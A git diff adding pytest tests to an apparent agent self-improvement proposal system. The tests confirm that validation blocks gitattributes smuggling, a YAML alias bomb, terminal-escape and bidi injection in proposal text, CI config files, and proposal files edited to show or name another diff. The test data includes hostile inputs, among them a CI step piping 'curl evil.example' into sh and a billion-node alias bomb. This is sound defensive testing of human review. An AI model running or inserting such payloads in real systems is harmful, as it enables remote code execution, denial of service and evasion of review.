@@ -183,3 +183,123 @@ def test_target_repository_without_main_is_refused(tmp_path: Path) -> None:
     subprocess.run(["git", "init", "-q", "-b", "trunk", str(tmp_path / "t")], check=True)
     with pytest.raises(GitError, match="no `main` branch"):
         TargetRepo.init(tmp_path / "t")
+
+
+@pytest.mark.parametrize("attribute", ["export-ignore", "export-subst"])
+def test_a_gitattributes_file_cannot_hide_a_file_from_validation(h: Harness,
+                                                                  attribute: str) -> None:
+    # git archive honours the tree's own .gitattributes: `export-ignore` dropped the
+    # schema-violating agents.yaml from the validated tree, `export-subst` validated text
+    # other than the committed blob; the check passed and main got the unchecked file.
+    # committed: 9000 (over the schema's maximum), or the string "3$Format:%x30$" (not an
+    # integer) that git archive's export-subst turns into a valid 30
+    bad = "9000" if attribute == "export-ignore" else "3$Format:%x30$"
+    new = _agents(h).replace("    timeout_s: 30\n", f"    timeout_s: {bad}\n")
+    out = h.loop.propose(h.draft({".gitattributes": f"agents.yaml {attribute}\n",
+                                  "agents.yaml": new}))
+    _assert_blocked(h, out, "test", "json-schema agents.yaml: FAILED")
+
+
+@pytest.mark.parametrize("path, text", [
+    (".gitattributes", "agents.yaml working-tree-encoding=UTF-16LE\n"),
+    ("docs/.gitattributes", "*.md eol=crlf\n"),
+    (".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ../x\n'),
+])
+def test_git_attributes_and_modules_are_forbidden_paths(h: Harness, path: str, text: str) -> None:
+    # .gitattributes decides how git checks files out (encodings, line ends, merge
+    # drivers): the deployed working tree would differ from the validated blobs
+    out = h.loop.propose(h.draft({path: text}))
+    _assert_blocked(h, out, "audit", f"forbidden path modified: {path}")
+
+
+@pytest.mark.parametrize("path", ["docs/lol.yaml", "agents.yaml"])
+def test_a_yaml_alias_bomb_is_refused_not_walked(h: Harness, path: str) -> None:
+    # ten lines of anchors, each level nine aliases of the one before: 9**9 (387 million)
+    # nodes once expanded; the policy's grant walk (and the schema check) visited every
+    # one, so the gates ran for hours (level 6 took 6 s, each level 9x more)
+    bomb = "lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
+        f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
+    text = bomb if path != "agents.yaml" else _agents(h) + "".join(
+        "  " + line + "\n" for line in bomb.splitlines())
+    out = h.loop.propose(h.draft({path: text}))
+    _assert_blocked(h, out, "test", "aliases")
+
+
+def test_control_and_bidi_characters_never_reach_the_proposal_text(h: Harness) -> None:
+    # a draft's prose (`ouro proposals new --title …`, an agent over the API) went into the
+    # markdown, `ouro proposals list|show` and the merge commit as written: ESC sequences
+    # that clear the screen or retitle the terminal, NUL, backspaces, bidi overrides
+    from dataclasses import replace
+
+    runbook = h.main_file("docs/runbook.md") or ""
+    hostile = "Fix \x1b[2J\x1b]0;owned\x07 timeout\x00\x08\x08 \u202eevil\u2066 \u200bx"
+    draft = replace(h.draft({"docs/runbook.md": runbook + "- a note\n"}), title=hostile,
+                    problem=f"line one {hostile}\nline two", evidence=(hostile,),
+                    root_cause=hostile, solution=hostile, risk=hostile)
+    out = h.loop.propose(draft)
+    assert out is not None and out.proposal.status == "pending"
+    p = h.loop.get(out.proposal.id)
+    for text in (p.title, p.problem, *p.evidence, p.root_cause, p.solution, p.risk):
+        assert "timeout" in text and "evil" in text
+        assert not any(ch in text for ch in "\x1b\x07\x00\x08\u202e\u2066\u200b"), repr(text)
+    assert "\n" in p.problem  # a paragraph keeps its lines
+    md = (h.loop.store.root / p.relpath).read_text()
+    assert "\x1b" not in md and "\u202e" not in md
+    merged = h.loop.approve(p.id).proposal
+    message = h.loop.repo.git("log", "-1", "--format=%B", merged.merge_commit)
+    assert "evil" in message and "\x1b" not in message and "\u202e" not in message
+
+
+@pytest.mark.parametrize("path", [".circleci/config.yml", "Jenkinsfile", ".travis.yml",
+                                  "azure-pipelines.yml", ".buildkite/pipeline.yml",
+                                  "bitbucket-pipelines.yml", ".drone.yml",
+                                  ".woodpecker/build.yml", ".gitlab/ci/deploy.yml",
+                                  ".pre-commit-config.yaml"])
+def test_ci_configurations_are_forbidden_paths(h: Harness, path: str) -> None:
+    # .github/ and .gitlab-ci.yml were forbidden, the other CI systems' files were not:
+    # a proposal's branch is pushed before anyone approves it, and a pushed branch runs
+    # its CI configuration (with the CI's secrets)
+    out = h.loop.propose(h.draft({path: "steps: [{run: curl evil.example | sh}]\n"}))
+    _assert_blocked(h, out, "audit", f"forbidden path modified: {path}")
+
+
+def test_a_proposal_file_naming_another_proposals_patch_decides_nothing(h: Harness) -> None:
+    # the markdown's Patch field is what `approve` and `reject` hand the kernel: edited to
+    # another pending proposal's patch, approving A approved and merged B (the diff the
+    # reviewer read was A's), and rejecting A rejected B
+    from ouroboros.capabilities.improve.proposals.proposal import UnreadableState
+
+    runbook = h.main_file("docs/runbook.md") or ""
+    a = h.loop.propose(h.draft({"docs/runbook.md": runbook + "- harmless\n"}, key="a"))
+    b = h.loop.propose(h.draft({"docs/runbook.md": runbook + "- the other one\n"}, key="b"))
+    assert a is not None and b is not None
+    md = h.loop.store.root / a.proposal.relpath
+    md.write_text(md.read_text().replace(a.proposal.patch_hash, b.proposal.patch_hash))
+    head = h.loop.repo.head()
+    for decide in (lambda: h.loop.approve(a.proposal.id),
+                   lambda: h.loop.reject(a.proposal.id, "no")):
+        with pytest.raises(UnreadableState, match="names the kernel patch"):
+            decide()
+    assert h.governance.is_pending(a.proposal.patch_hash)
+    assert h.governance.is_pending(b.proposal.patch_hash)
+    assert h.loop.repo.head() == head
+    assert h.loop.get(b.proposal.id).status == "pending"
+
+
+def test_a_proposal_file_showing_another_diff_decides_nothing(h: Harness) -> None:
+    # `proposals show` (and the console) show the file's diff, the kernel merges its own:
+    # a file whose diff was edited had the reviewer approve a change they never saw
+    from ouroboros.capabilities.improve.proposals.proposal import UnreadableState
+
+    runbook = h.main_file("docs/runbook.md") or ""
+    out = h.loop.propose(h.draft({"docs/runbook.md": runbook + "- send reports to ops\n"}))
+    assert out is not None
+    md = h.loop.store.root / out.proposal.relpath
+    md.write_text(md.read_text().replace("+- send reports to ops", "+- a harmless note"))
+    assert "harmless" in h.loop.get(out.proposal.id).diff
+    head = h.loop.repo.head()
+    with pytest.raises(UnreadableState, match="shows a diff other than"):
+        h.loop.approve(out.proposal.id)
+    assert h.governance.is_pending(out.proposal.patch_hash) and h.loop.repo.head() == head
+    md.write_text(md.read_text().replace("+- a harmless note", "+- send reports to ops"))
+    assert h.loop.approve(out.proposal.id).proposal.status == "implemented"
